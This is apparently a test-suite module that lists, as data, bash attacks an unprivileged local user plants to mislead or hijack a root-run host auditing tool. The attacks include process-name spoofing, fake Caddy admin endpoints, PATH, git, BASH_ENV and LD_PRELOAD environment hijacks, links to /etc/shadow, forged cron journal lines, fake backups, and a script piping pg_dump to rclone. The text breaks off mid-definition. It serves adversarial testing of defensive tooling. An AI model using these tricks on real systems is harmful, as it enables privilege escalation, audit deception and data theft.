"""What a local user without any rights tries on a host that is being looked at by root: attacks as data.

Every attack is a piece of bash that the user `stranger` runs. What would be executed in its stead writes
`id -u` into a new file of PROOF, a folder open to all: the file's owner is whoever executed it.
"""

from __future__ import annotations

import shlex
from collections.abc import Mapping
from dataclasses import dataclass, field

from labhost.host import Host

UID = 12345
HOME = "/home/stranger"
PROOF = "/var/tmp/stranger/proof"

_ACCOUNT = f"""
useradd --create-home --uid {UID} --shell /bin/bash stranger
chmod 755 {HOME}
echo stranger:stranger | chpasswd
install -d -o stranger -m 777 {PROOF}
manager=/run/systemd/system/user@{UID}.service.d
mkdir -p $manager
printf '[Service]\\nEnvironment=XDG_RUNTIME_DIR=/run/user/{UID}\\n' > $manager/pam.conf
systemctl daemon-reload
"""
_MANAGER = f"systemctl reset-failed user@{UID} 2> /dev/null; systemctl start user@{UID}"
"""What PAM does at a login: the stranger's own service manager."""

# payload FILE writes the proof when FILE is run. hold keeps a program running; master WORDS PROGRAM does so,
# as the master process of an nginx with these words. named NAME is a python3 that is called so. serve.py
# ADDRESS PORT FILE answers every request with the file, and keeps what it is told.
_TOOLS = f"""
set -e
attack=$1 proof={PROOF} home={HOME}
own=$home/attacks/$attack
mkdir -p $own && cd $own
payload() {{
    mkdir -p "$(dirname -- "$1")"
    printf '#!/bin/sh\\nid -u > %s/%s.$$\\n' $proof $attack > "$1.new"
    chmod 755 "$1.new" && mv -fT "$1.new" "$1"
}}
hold() {{ setsid "$@" > /dev/null 2>&1 < /dev/null & }}
master() {{ hold bash -c 'exec -a "nginx: master process $0" "$@"' "$@"; }}
named() {{ ln -sf /usr/bin/python3 "./$1"; }}
listening() {{
    for i in $(seq 50); do ss -Hltn "sport = :$1" | grep -qF -- "$2" && return; sleep 0.1; done
    exit 1
}}
cat > serve.py << 'PYTHON'
import pathlib, socket, sys
address, port, body = sys.argv[1], int(sys.argv[2]), pathlib.Path(sys.argv[3]).read_bytes()
family = socket.AF_INET6 if ":" in address else socket.AF_INET
with socket.socket(family) as server, open("told", "ab", buffering=0) as told:
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    if family == socket.AF_INET6:
        server.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
    server.bind((address, port))
    server.listen()
    while True:
        one, _ = server.accept()
        with one:
            one.settimeout(2)
            try:
                told.write(one.recv(65536))
                one.sendall(b"HTTP/1.0 200 OK\\r\\nContent-Type: application/json\\r\\n\\r\\n" + body)
            except OSError:
                pass
PYTHON
"""

_GIT = """
cd /srv/shop
[ -d /root/kept.git ] || cp -a .git /root/kept.git
in_git() { git -C /srv/shop -c safe.directory='*' -c user.name=Deploy -c user.email=deploy@shop.test "$@"; }
"""
_SHARED = """
chown -R deploy:stranger .git && chmod -R g+rwX .git
"""
_LEAK = (
    _GIT
    + """
cat .env > notes.txt && in_git add notes.txt && in_git commit --quiet --message Notes
in_git rm --quiet notes.txt && in_git commit --quiet --message 'No notes'
"""
    + _SHARED
)
_MEND = """
if [ -d /root/kept.git ]; then
    rm -rf /srv/shop/.git && cp -a /root/kept.git /srv/shop/.git
fi
if [ -e /root/kept.timer ]; then
    rm -f /etc/cron.d/shop-backup; mv /root/kept.timer /etc/systemd/system/shop-backup.timer
    systemctl daemon-reload && systemctl enable -q --now shop-backup.timer
fi
if [ -e /root/kept.caddy ]; then
    mv /root/kept.caddy /etc/caddy/Caddyfile && systemctl reset-failed caddy && systemctl restart caddy
fi
"""

ADMIN = ("admin.restriction", "admin.outside")
RUNNING = ("env.present", "env.running", "env.restarted")
NETWORK = ("network.datastore-ports", "network.published-ports", "network.firewall", "network.vantages-agree")
ENV = ("env.present", "env.mode", "env.strength", "env.reuse", "env.test-keys", "env.debug")
BACKUPS = (
    "jobs.backup-scheduled",
    "jobs.backup-ran",
    "backups.age",
    "backups.size",
    "backups.integrity",
    "backups.retention",
    "backups.modes",
    "backups.encryption",
)
GIT = ("env.git",)


@dataclass(frozen=True)
class Attack:
    """One thing that is tried.

    ``plant`` is run by the stranger, in a folder of its own; ``given`` by root before, and is what the host's
    owner had done: the verdicts are compared with those after it. ``sees`` are the probes that could be led
    astray. ``environment`` is the caller's. ``may`` names the results that are right for a probe instead of
    those without the stranger. ``alone`` keeps it out of the attack with everything at once. ``undo`` is what
    root does after it. ``secret`` is what the stranger is after.
    """

    row: str
    name: str
    what: str
    plant: str = ""
    sees: tuple[str, ...] = ADMIN
    kind: str = "good"
    given: str = ""
    environment: Mapping[str, str] = field(default_factory=dict)
    may: Mapping[str, frozenset[str]] = field(default_factory=dict)
    alone: bool = False
    undo: str = ""
    secret: str = ""


# Processes

_ROSY_CADDY = (
    '{"apps":{"http":{"servers":{"s":{"listen":[":443"],"routes":[{"match":[{"path":["/admin*","/api/admin*"]}],'
    '"handle":[{"handler":"static_response","status_code":403}]},{"handle":[{"handler":"reverse_proxy",'
    '"upstreams":[{"dial":"127.0.0.1:8765"}]}]}]}}}}}'
)
_OPEN_CADDY = (
    '{"apps":{"http":{"servers":{"s":{"listen":[":443"],"routes":[{"match":[{"host":["shop.test"]}],'
    '"handle":[{"handler":"reverse_proxy","upstreams":[{"dial":"127.0.0.1:8765"}]}]}]}}}}}'
)
_CADDY_ANSWERS = """
        named caddy; printf %s 'CONFIG' > config; echo '[]' > panel
        hold ./caddy serve.py 127.0.0.1 2019 config; hold ./caddy serve.py ::1 2019 config
        hold ./caddy serve.py 127.0.0.1 8765 panel
        listening 2019 127.0.0.1; listening 2019 '[::1]'; listening 8765 127.0.0.1
"""
_BY_CRON = """
systemctl disable -q --now shop-backup.timer
mv /etc/systemd/system/shop-backup.timer /root/kept.timer && systemctl daemon-reload
echo '15 3 * * * postgres /usr/local/sbin/shop-backup' > /etc/cron.d/shop-backup
"""
_CADDY_OFF = """
[ -e /root/kept.caddy ] || cp -a /etc/caddy/Caddyfile /root/kept.caddy
sed -i -e '1i { \\n admin off \\n }' -e '/respond @admin/d' /etc/caddy/Caddyfile
systemctl restart caddy
"""
_EVIL_NGINX = """
mkdir -p logs conf
cat > conf/nginx.conf << EOF
daemon off; pid $own/pid; error_log $own/error.log;
events {}
http { access_log off; client_body_temp_path $own/1; proxy_temp_path $own/2; fastcgi_temp_path $own/3;
uwsgi_temp_path $own/4; scgi_temp_path $own/5; server { listen 127.0.0.1:PORT; location / { return 200; } } }
EOF
"""
_MORE_LOGS = 'sed -i "s|error_log [^;]*|error_log $proof/$attack.log|" conf/nginx.conf'

PROCESSES = (
    Attack(
        "processes",
        "nginx-replaced",
        "A program called nginx is replaced, once it runs, by another",
        """
        cp /bin/sleep nginx; master nginx ./nginx 900
        sleep 0.2; payload nginx; ln nginx 'nginx (deleted)'
        """,
    ),
    Attack(
        "processes",
        "nginx-own-program",
        "A program of the stranger's own, whose interpreter is not nginx, is called nginx with -c and -p",
        """
        mkdir bin; cp /bin/sleep bin/nginx
        master "nginx -c /tmp/evil.conf -p /home/stranger" ./bin/nginx 900
        sleep 0.2; payload bin/nginx; echo "load_module /home/stranger/evil.so; events {}" > /tmp/evil.conf
        """,
    ),
    Attack(
        "processes",
        "nginx-real-conf",
        "The real nginx, run by the stranger, with a file of theirs that names other logs since",
        _EVIL_NGINX.replace("PORT", "8901")
        + "hold /usr/sbin/nginx -c $own/conf/nginx.conf; listening 8901 127.0.0.1; "
        + _MORE_LOGS,
    ),
    Attack(
        "processes",
        "nginx-real-prefix",
        "The same by -p, with a module to load from the stranger's home",
        _EVIL_NGINX.replace("PORT", "8902")
        + "hold /usr/sbin/nginx -p $own/ -c conf/nginx.conf; listening 8902 127.0.0.1; mkfifo evil.so; "
        + 'sed -i "1i load_module $own/evil.so;" conf/nginx.conf',
    ),
    Attack(
        "processes",
        "nginx-line-feed",
        "Arguments with a line feed make a second line, which claims to be process 1",
        """
        mkdir bin; cp /bin/sleep bin/nginx
        hold bash -c $'exec -a "x\\n1\\tnginx: master process nginx -c /tmp/evil.conf" ./bin/nginx 900'
        master $'nginx\\n#nginx\\tthe host\\t1\\t1\\n|}\\n#end' ./bin/nginx 900
        """,
    ),
    Attack(
        "processes",
        "nginx-setuid",
        "A program with root's setuid bit that waits for a password, called nginx by a link",
        """
        for one in su passwd; do
            mkdir $one; ln -s /usr/bin/$one $one/nginx; mkfifo $one/in
            exec 3<> $one/in
            exec 4> /dev/null
            setsid bash -c "exec -a 'nginx: master process nginx -c $own/evil.conf' $one/nginx <&3" >&4 2>&4 &
        done
        payload evil.conf
        """,
    ),
    Attack(
        "processes",
        "nginx-namespaces",
        "root of namespaces of its own, where another program lies at /usr/sbin/nginx",
        """
        cp /bin/sleep nginx; payload evil
        hold unshare -Urm bash -c "mount --bind $own/nginx /usr/sbin/nginx;
            exec -a 'nginx: master process nginx -c $own/evil.conf' /usr/sbin/nginx 900"
        hold unshare -Urpf --mount-proc bash -c "exec -a 'nginx: master process nginx' ./nginx 900"
        printf 'events {}\\nerror_log %s/%s.log;\\n' $proof $attack > evil.conf
        """,
    ),
    Attack(
        "processes",
        "caddy-open",
        "A program called caddy answers Caddy's questions on 127.0.0.1 and ::1: the panel is open, it says",
        _CADDY_ANSWERS.replace("CONFIG", _OPEN_CADDY),
        sees=(*ADMIN, "network.only-expected"),
    ),
    Attack(
        "processes",
        "caddy-rosy",
        "The host's Caddy answers nothing, and its panel is open; the stranger's says that it is closed",
        _CADDY_ANSWERS.replace("CONFIG", _ROSY_CADDY),
        kind="good-caddy",
        given=_CADDY_OFF,
        alone=True,
    ),
    Attack(
        "processes",
        "caddy-beside",
        "On a host with Caddy, another answers on ::1, and one has a file of its own",
        f"""
        named caddy; printf %s '{_ROSY_CADDY}' > rosy; hold ./caddy serve.py ::1 2019 rosy
        listening 2019 '[::1]'
        echo 'import /etc/shadow' > Caddyfile
        hold bash -c "exec -a 'caddy run --config $own/Caddyfile' ./caddy -c 'import time; time.sleep(900)'"
        """,
        kind="good-caddy",
    ),
    Attack(
        "processes",
        "many-names",
        "Programs called as servers, engines and cron are called",
        """
        for name in cron crond postgres postmaster dockerd conmon rootlesskit containerd-shim redis-server \\
            apache2 httpd haproxy traefik lighttpd envoy sshd nginx caddy; do cp /bin/sleep $name
            hold ./$name 900; done
        """,
        sees=(*ADMIN, *NETWORK, "jobs.backup-scheduled", "backups.age"),
    ),
    Attack(
        "processes",
        "odd-names",
        "Names with quotes, tabs, line feeds and the scripts' own marks, of listeners too",
        r"""
        n=8910
        for name in 'a",pid=1,fd=3' $'a\n#end' $'a\tb|c' '#end' '|x' $'\e]0;x\a' 'users:((' \
            $'x\n#nginx\ty'; do
            named "$name"; echo > body; hold "./$name" serve.py 127.0.0.1 $n body; listening $n 127.0.0.1
            n=$((n + 1))
        done
        """,
        sees=(*ADMIN, *NETWORK),
    ),
    Attack(
        "processes",
        "datastore-listener",
        "Listeners called postgres and sshd on the machine's own address, at ports that the firewall closes",
        """
        at=$(hostname -I | tr ' ' '\\n' | grep '^10\\.213' | head -1); named postgres; named sshd; echo > body
        hold ./postgres serve.py $at 5432 body; hold ./sshd serve.py $at 2222 body
        listening 5432 $at; listening 2222 $at
        """,
        sees=(*NETWORK, "network.only-expected"),
    ),
    Attack(
        "processes",
        "in-project",
        "A process in the project's directory whose environment holds old and evil values",
        """
        cp /bin/sleep gunicorn
        (cd /srv/shop && hold env SECRET_KEY=changeme JWT_SECRET_KEY=changeme POSTGRES_PASSWORD=postgres \\
            REDIS_PASSWORD=old SMTP_PASSWORD=old DEBUG=1 $own/gunicorn 900)
        """,
        sees=(*RUNNING, *ENV),
    ),
    Attack(
        "processes",
        "huge",
        "Processes in the project's directory with two megabytes of arguments or of environment",
        r"""
        cat > huge.py << 'PYTHON'
import os, sys
os.chdir("/srv/shop")
big = "\n" * 131000
words, values = ([big] * 12, {}) if sys.argv[1] == "nginx" else ([], {f"KEY{n}": big for n in range(12)})
os.execve(f"{sys.argv[2]}/{sys.argv[1]}", ["nginx: master process nginx", "-e", "sleep 900", *words], values)
PYTHON
        for name in nginx worker; do ln -s /usr/bin/perl $name; hold python3 huge.py $name $own; done
        """,
        sees=(*ADMIN, *RUNNING),
    ),
    Attack(
        "processes",
        "three-hundred",
        "300 processes, half of them called nginx, in the project's directory",
        """
        cp /bin/sleep nginx; cp /bin/sleep worker
        (cd /srv/shop; for i in $(seq 150); do hold env SECRET_KEY=old $own/worker 900
            hold bash -c "exec -a 'nginx: master process nginx' $own/nginx 900"; done); sleep 0.5
            payload nginx
        """,
        sees=(*ADMIN, *RUNNING),
    ),
    Attack(
        "processes",
        "watching",
        "A process that keeps all arguments that it ever sees",
        """
        cat > watch.py << 'PYTHON'
import glob, pathlib, time
with open("told", "ab", buffering=0) as told:
    seen = set()
    while True:
        for one in glob.glob("/proc/[0-9]*/cmdline"):
            try:
                words = pathlib.Path(one).read_bytes()[:200000]
            except OSError:
                continue
            if hash(words) not in seen:
                seen.add(hash(words))
                told.write(words + b"\\n")
        time.sleep(0.1)
PYTHON
        hold python3 watch.py
        """,
        sees=RUNNING,
    ),
    Attack(
        "processes",
        "own-units",
        "Units of the stranger's own service manager, called as the host's, and one as a container",
        """
        mkdir -p ~/.config/systemd/user; cd ~/.config/systemd/user
        cp /bin/sleep $own/nginx; cp /bin/sleep $own/shop
        for name in nginx shop caddy postgresql; do
            printf '[Service]\\nExecStart=%s/nginx 900\\nWorkingDirectory=/srv/shop\\n' $own > $name.service
            echo Environment=SECRET_KEY=old >> $name.service
        done
        printf '[Service]\\nExecStart=/usr/bin/pg_dump shop -f %s/backups/shop.dump\\n' ~ > dump.service
        printf '[Timer]\\nOnCalendar=daily\\n[Install]\\nWantedBy=timers.target\\n' > dump.timer
        export XDG_RUNTIME_DIR=/run/user/$(id -u)
        systemctl --user daemon-reload
        systemctl --user start nginx shop caddy postgresql dump.timer
        cd $own; named redis-server; echo > body; at=$(hostname -I | tr ' ' '\\n' | grep '^10\\.213')
        systemd-run --quiet --user --unit=docker-$(printf 'a%.0s' $(seq 64)) --working-directory=$own \\
            ./redis-server serve.py $at 6379 body
        listening 6379 $at; payload $own/nginx
        """,
        sees=(*ADMIN, *RUNNING, *BACKUPS, *NETWORK),
    ),
)

# Files

_ENV_LINES = "SECRET_KEY=changeme\\nPOSTGRES_PASSWORD=postgres\\nPOSTGRES_DB=shop\\nDEBUG=1\\n"
_ROSY_SQL = r"""
sql() {
    printf -- '--\n-- PostgreSQL database dump\n--\nCREATE TABLE public.orders (id integer, name text);\n'
    printf 'COPY public.orders (id, name) FROM stdin;\n'
    seq 1 20000 | awk '{ print $1 "\torder" $1 }'
    printf '\\.\n\n-- PostgreSQL database dump complete\n--\n'
}
"""
FILES = (
    Attack(
        "files",
        "env-copies",
        "Files of the stranger's own called .env, at home and in /tmp, names with line feeds and all",
        f"""
        for file in ~/.env /tmp/x.env ~/shop/.env $'/tmp/a\\n#end.env' $'/tmp/\\t|b.env' ~/$'x\\n|y'/.env \\
            /var/tmp/$'c\\e[31m.env' $'/tmp/d\\n/srv/shop/.env.env'; do
            mkdir -p "$(dirname "$file")"; printf '{_ENV_LINES}' > "$file"; chmod 666 "$file"
        done
        """,
        sees=ENV,
    ),
    Attack(
        "files",
        "env-many",
        "250 such files in each place",
        "for i in $(seq 250); do echo SECRET_KEY=x > ~/$i.env; echo SECRET_KEY=x > /tmp/$i.env; done",
        sees=ENV,
    ),
    Attack(
        "files",
        "env-odd",
        "A FIFO, links to /etc/shadow and to the project's, a folder, one that keeps changing, called .env",
        """
        mkdir ~/app ~/.app; mkfifo ~/.app/.env ~/app/.env; ln -s /etc/shadow ~/x.env
        ln -s /srv/shop/.env ~/y.env
        mkdir ~/z.env; ln -s /dev/zero /tmp/zero.env
        mkfifo fifo; echo A=b > file; ln -s /etc/shadow link
        hold bash -c 'while sleep 0.05; do ln -fT file ~/w.env; sleep 0.05; ln -fT fifo ~/w.env; sleep 0.05
            cp -PfT link ~/w.env; done'
        """,
        sees=ENV,
    ),
    Attack(
        "files",
        "trees",
        "A tree 2000 folders deep, one of 20,000 files, and names with line feeds, in home and /tmp",
        r"""
        python3 - << 'PYTHON'
import os
for start in ("/home/stranger", "/tmp"):
    os.makedirs(f"{start}/wide", exist_ok=True)
    for i in range(10000):
        if i % 100 == 0:
            os.mkdir(f"{start}/wide/{i}\n|#end")
        os.close(os.open(f"{start}/wide/{i - i % 100}\n|#end/{i}.env.d", os.O_CREAT))
    os.chdir(start)
    for _ in range(2000):
        os.mkdir("deep")
        os.chdir("deep")
PYTHON
        """,
        sees=(*ENV, *GIT),
    ),
    Attack(
        "files",
        "dump-rosy",
        "Fresh and whole dumps of the product's database, as told by themselves",
        _ROSY_SQL
        + """
        mkdir -p ~/backups ~/backup; sql > ~/backups/shop.sql
        sql | gzip > ~/backups/shop-$(date +%Y%m%d).sql.gz
        sql | zstd -q > ~/backup/shop.dump.zst; chmod 666 ~/backups/*
        """,
        sees=BACKUPS,
    ),
    Attack(
        "files",
        "dump-rosy-alone",
        "The same where the host has no dump of its own",
        _ROSY_SQL + "mkdir ~/backups; sql > ~/backups/shop.sql; sql | gzip > ~/backups/shop-1.sql.gz",
        sees=BACKUPS,
        given="mv /var/backups/shop /root/kept.dumps && install -d -o postgres -m 700 /var/backups/shop",
        undo="rm -r /var/backups/shop; mv /root/kept.dumps /var/backups/shop",
        alone=True,
    ),
    Attack(
        "files",
        "dump-bad",
        "Bad archives, of 0 bytes, links, FIFOs, folders and 38 GB in 4 MB, newer than the real ones",
        """
        mkdir -p ~/backups/dir ~/backups/odd; cd ~/backups
        (printf 'PGDMP\\001\\016\\000\\004\\010\\001'; head -c 300000 /dev/urandom) > shop.dump
        : > shop-empty.dump; ln -s /etc/shadow shop-link.dump; mkfifo shop-fifo.dump toc.dat
        mkdir shop-folder.dump; (printf 'PGDMP\\001\\016\\000'; head -c 9000 /dev/urandom) > dir/toc.dat
        head -c 128M /dev/zero | zstd -q -1 > one; for i in $(seq 300); do cat one
        done > shop-bomb.sql.zst; rm one
        printf 'AGE-SECRET-KEY-1QQ\\n' > shop.key; echo x > backup-password; echo x > $'shop\\n#end.dump'
        cp shop.dump odd/shop-copy.dump; touch -hd '+1 hour' shop*.dump
        """,
        sees=BACKUPS,
    ),
    Attack(
        "files",
        "dump-links",
        "Folders for dumps that lead to /proc and /dev, one file that keeps changing, links to devices",
        """
        ln -s /proc ~/backups; ln -s /dev ~/backup; mkdir ~/x ~/y; mkfifo fifo
        head -c 70000 /dev/urandom > file
        ln -s /proc/kmsg link
        hold bash -c 'cd ~/x; while sleep 0.01; do for one in file fifo link; do
            cp -PfT ~/attacks/dump-links/$one new; mv -fT new shop.dump; ln -sfT /home/stranger/x new
            mv -fT new ~/backups; sleep 0.01; ln -sfT /proc new; mv -fT new ~/backups; done; done'
        """,
        sees=BACKUPS,
        alone=True,
    ),
    Attack(
        "files",
        "dump-stores",
        "Folders that look like stores of restic and Borg",
        """
        mkdir -p ~/backups/r/{data,snapshots,keys} ~/backups/b/data; cd ~/backups
        echo x > r/config; echo x > r/snapshots/1; echo x > r/keys/1; echo 'key = x' > b/config
        echo 'This is a Borg Backup repository.' > b/README; mkfifo ~/backups/b/data/1; mkdir -p ~/backup
        mkfifo ~/backup/config
        """,
        sees=BACKUPS,
    ),
    Attack(
        "files",
        "hook",
        "A hook at home that names the project, which has no repository",
        """
        mkdir -p ~/x.git/hooks ~/y.git/hooks; payload ~/x.git/hooks/post-receive
        mkfifo ~/y.git/hooks/post-receive
        echo 'git --work-tree=/srv/shop checkout -f' >> ~/x.git/hooks/post-receive
        """,
        sees=GIT,
        given="cd /srv/shop && { [ -d /root/kept.git ] || cp -a .git /root/kept.git; } && rm -rf .git",
        alone=True,
    ),
)

# What is scheduled

JOBS = (
    Attack(
        "jobs",
        "crontab",
        "A crontab that claims to dump the product's database each night, with scripts at home",
        """
        payload ~/bin/shop-backup.sh
        echo 'pg_dump -Fc shop > /home/stranger/dumps/shop.dump' >> ~/bin/shop-backup.sh
        mkdir -p ~/dumps; head -c 300000 /dev/urandom > ~/dumps/shop.dump; mkfifo ~/bin/fifo.sh
        crontab - << EOF
17 3 1 1 * /home/stranger/bin/shop-backup.sh
18 3 1 1 * pg_dump shop | gzip > /home/stranger/dumps/shop-night.sql.gz
19 3 1 1 * /home/stranger/bin/fifo.sh && cd /home/stranger/bin && ./fifo.sh pg_dump
20 3 1 1 * cat /dev/zero /etc/shadow /home/stranger/bin/../../../etc/shadow.sh pg_dump $(seq -s ' ' 200)
EOF
        """,
        sees=BACKUPS,
    ),
    Attack(
        "jobs",
        "crontab-links",
        "A crontab of scripts that are links: to devices, the kernel's log, /etc/shadow, folders",
        """
        mkdir -p ~/bin ~/dumps
        crontab -l > tab 2> /dev/null || true
        for one in /dev/watchdog /proc/kmsg /etc/shadow /dev/zero /dev/tty /srv/shop/.env; do
            script=~/bin/$(basename $one).sh; ln -s $one $script; echo "1 1 1 1 * pg_dump shop; $script"
        done >> tab; crontab tab
        """,
        sees=BACKUPS,
    ),
    Attack(
        "jobs",
        "journal-ran",
        "Messages in the journal in cron's name: the dump was made",
        """
        logger -t CRON '(postgres) CMD (/usr/local/sbin/shop-backup)'
        echo '(postgres) CMD (/usr/local/sbin/shop-backup)' | systemd-cat -t CRON
        """,
        given=_BY_CRON,
        sees=BACKUPS,
        alone=True,
    ),
    Attack(
        "jobs",
        "journal-refused",
        "Messages in the journal in cron's name: the job is refused",
        """
        for one in CRON cron; do
            logger -t $one '(*system*shop-backup) WRONG FILE OWNER (/etc/cron.d/shop-backup)'
            logger -t $one '(*system*shop-backup) INSECURE MODE (/etc/cron.d/shop-backup)'
            logger -t $one '(*system*shop-backup) ERROR (Missing newline before EOF)'
            logger -t $one '(postgres) ERROR (Syntax error, this crontab file will be ignored)'
        done
        """,
        given=_BY_CRON,
        sees=BACKUPS,
        alone=True,
    ),
    Attack(
        "jobs",
        "crontab-broken",
        "A crontab of jobs for the product that could never run",
        """
        printf '%s\\n' '17 3 1 1 * /usr/local/sbin/shop-backup pg_dump shop' '99 99 * * * pg_dump shop' \\
            '1 1 1 1 * /nowhere/pg_dump shop | #end' > ~/tab
        crontab ~/tab 2> /dev/null || { sed -i '/^99/d' ~/tab; crontab ~/tab; }
        """,
        sees=BACKUPS,
        alone=True,
    ),
)

# The caller's environment

_BINARIES = (
    "nginx caddy git docker psql pg_restore zstd namei sh ss timeout head awk base64 stat find grep sed cat"
    " id env runuser setpriv systemctl redis-cli sshd crond rclone anacron docker-compose curl ip nft ufw"
    " ssh ssh-keygen iptables-save"
)
_PROGRAMS = f"for one in {_BINARIES}; do payload ~/bin/$one; done"
CLEAN_PATH = "/usr/sbin:/usr/bin:/sbin:/bin:/usr/local/sbin:/usr/local/bin"
ENVIRONMENT = (
    Attack(
        "environment",
        "path-first",
        "PATH begins with a folder of the stranger's",
        _PROGRAMS,
        sees=(*ADMIN, *GIT, *BACKUPS, *RUNNING, *NETWORK),
        environment={"PATH": f"{HOME}/bin:{CLEAN_PATH}"},
    ),
    Attack(
        "environment",
        "path-last",
        "PATH ends with a folder of the stranger's, with what the host does not have",
        _PROGRAMS,
        sees=(*ADMIN, *GIT, *BACKUPS, *RUNNING, *NETWORK),
        environment={"PATH": f"{CLEAN_PATH}:{HOME}/bin:."},
        alone=True,
    ),
    Attack(
        "environment",
        "git",
        "Variables of git's",
        """
        git init -q --bare ~/x.git; payload ~/evil-git
        printf '[core]\\n\\tfsmonitor = %s\\n\\tsshCommand = %s\\n' ~/evil-git ~/evil-git > ~/x.git/config
        """,
        sees=GIT,
        environment={
            "GIT_DIR": f"{HOME}/x.git",
            "GIT_LITERAL_PATHSPECS": "1",
            "GIT_EXTERNAL_DIFF": f"{HOME}/evil-git",
            "GIT_PAGER": f"{HOME}/evil-git",
            "GIT_CONFIG_COUNT": "1",
            "GIT_CONFIG_KEY_0": "core.fsmonitor",
            "GIT_CONFIG_VALUE_0": f"{HOME}/evil-git",
            "GIT_CONFIG_GLOBAL": f"{HOME}/x.git/config",
            "GIT_EXEC_PATH": f"{HOME}/bin",
            "GIT_OBJECT_DIRECTORY": f"{HOME}/x.git/objects",
            "GIT_TRACE": f"{PROOF}/git.trace",
        },
    ),
    Attack(
        "environment",
        "stores",
        "Variables of PostgreSQL's and Redis's clients, with a server of the stranger's",
        """
        echo '[x]' > ~/services; named postgres
        cat > socket.txt << 'PYTHON'
import socket
server = socket.socket(socket.AF_UNIX)
server.bind("/tmp/.s.PGSQL.5432")
server.listen()
while True:
    with open("told", "ab") as told:
        told.write(server.accept()[0].recv(9999))
PYTHON
        hold ./postgres socket.txt; sleep 0.5; chmod 777 /tmp/.s.PGSQL.5432
        """,
        sees=(*BACKUPS, *RUNNING),
        environment={
            "PGHOST": "/tmp",
            "PGPORT": "5432",
            "PGSERVICEFILE": f"{HOME}/services",
            "PGSERVICE": "x",
            "PGOPTIONS": "-c search_path=evil -c default_transaction_read_only=on",
            "PGPASSFILE": f"{HOME}/none",
            "PGUSER": "stranger",
            "PGDATABASE": "evil",
            "REDISCLI_AUTH": "wrong",
            "PSQLRC": f"{HOME}/services",
        },
    ),
    Attack(
        "environment",
        "docker",
        "Variables of Docker's and Compose's",
        """
        payload ~/.docker/cli-plugins/docker-compose; payload ~/.docker/docker-credential-x
        echo '{}' > ~/.docker/config.json; echo 'services: {evil: {image: evil}}' > ~/compose.yml
        """,
        sees=(*NETWORK, *RUNNING, *ADMIN),
        kind="good-docker",
        environment={
            "COMPOSE_FILE": f"{HOME}/compose.yml",
            "COMPOSE_PROJECT_NAME": "evil",
            "DOCKER_HOST": "unix:///tmp/nobody.sock",
            "DOCKER_CONFIG": f"{HOME}/.docker",
            "DOCKER_CONTEXT": "evil",
        },
    ),
    *(
        Attack(
            "environment",
            name,
            what,
            "payload ~/env.sh; mkdir -p ~/tmp; chmod 777 ~/tmp",
            sees=(*ADMIN, *GIT, *BACKUPS, *RUNNING, *NETWORK, *ENV),
            environment=variables,
        )
        for name, what, variables in (
            (
                "shell",
                "Variables of the shell's",
                {
                    "BASH_ENV": f"{HOME}/env.sh",
                    "ENV": f"{HOME}/env.sh",
                    "POSIXLY_CORRECT": "1",
                    "CDPATH": f"{HOME}:/tmp",
                    "IFS": "/.",
                    "TMPDIR": f"{HOME}/tmp",
                    "BASH_FUNC_id%%": "() { echo 0; }",
                },
            ),
            (
                "loader",
                "Variables of the loader's",
                {"LD_PRELOAD": f"{HOME}/none.so", "LD_LIBRARY_PATH": HOME},
            ),
            (
                "locale",
                "Another language and time zone",
                {"LC_ALL": "ru_RU.UTF-8", "LANGUAGE": "ru", "TZ": "Pacific/Kiritimati"},
            ),
            (
                "tools",
                "Variables of the programs that are asked",
                {
                    "SYSTEMD_PAGER": f"{HOME}/env.sh",
                    "SYSTEMD_COLORS": "1",
                    "SYSTEMD_LOG_LEVEL": "debug",
                    "GREP_OPTIONS": "-v",
                    "GREP_COLORS": "mt=01",
                    "AWKPATH": HOME,
                    "PERL5LIB": HOME,
                    "http_proxy": "http://127.0.0.1:9",
                    "CURL_HOME": HOME,
                    "XZ_OPT": "--bogus",
                    "GZIP": "--bogus",
                    "ZSTD_CLEVEL": "x",
                    "PS_FORMAT": "comm",
                    "LS_COLORS": "*=01",
                    "TIME_STYLE": "+%s",
                    "BLOCK_SIZE": "human-readable",
                },
            ),
        )
    ),
)

# What a host's owner did in good faith, and what a stranger makes of it.

_NGINX_OK = "nginx -t 2> /dev/null && systemctl reload nginx"
OPENINGS = (
    Attack(
        "openings",
        "log-link",
        "nginx logs into a folder of the stranger's, who puts a link to a file that is not there",
        "rm -f ~/logs/access.log; ln -s $proof/$attack.made ~/logs/access.log",
        given=f"""
        install -d -o stranger {HOME}/logs
        echo 'access_log {HOME}/logs/access.log;' > /etc/nginx/conf.d/stranger.conf; {_NGINX_OK}
        """,
        may={probe: frozenset({"unknown"}) for probe in ADMIN},
        undo=f"rm -f /etc/nginx/conf.d/stranger.conf; {_NGINX_OK}",
        alone=True,
    ),
    Attack(
        "openings",
        "quoted-include",
        "nginx includes, by a directive in quotes, what lies in a folder of the stranger's",
        "echo 'error_log $proof/$attack.log;' | sed \"s|.proof/.attack|$proof/$attack|\" > ~/inc/a.conf",
        given=f"""
        install -d -o stranger {HOME}/inc
        echo '"include" {HOME}/inc/*.conf;' > /etc/nginx/conf.d/stranger.conf; {_NGINX_OK}
        """,
        may={probe: frozenset({"unknown"}) for probe in ADMIN},
        undo=f"rm -f /etc/nginx/conf.d/stranger.conf; {_NGINX_OK}",
        alone=True,
    ),
    Attack(
        "openings",
        "lock-script",
        "root's job names a file in /tmp that is not there; the stranger makes it a script that dumps",
        """
        printf '#!/bin/sh\npg_dump shop | rclone copy - off:site\n' > /tmp/nightly.lock
        """,
        given="""
        echo '15 3 * * * root flock -n /tmp/nightly.lock true' > /etc/cron.d/nightly
        """,
        sees=BACKUPS,
        undo="rm -f /etc/cron.d/nightly",
        alone=True,
    ),
    Attack(
        "openings",
        "staging",
        "root's job dumps into a folder in /tmp, and takes it away; the stranger makes it, with dumps",
        _ROSY_SQL + "mkdir -m 755 /tmp/shop-dumps; sql > /tmp/shop-dumps/shop.sql",
        given="""
        [ -d /root/kept.dumps ] || mv /var/backups/shop /root/kept.dumps
        printf '#!/bin/sh\nmkdir -p /tmp/shop-dumps && pg_dump shop > /tmp/shop-dumps/shop.sql\n' \\
            > /usr/local/sbin/night
        chmod 755 /usr/local/sbin/night; echo '15 3 * * * root /usr/local/sbin/night' > /etc/cron.d/night
        """,
        sees=BACKUPS,
        undo="rm -f /etc/cron.d/night /usr/local/sbin/night; mv /root/kept.dumps /var/backups/shop",
        alone=True,
    ),
)

# Floods

FLOODS = (
    Attack(
        "floods",
        "timers",
        "30,000 timers of the stranger's own",
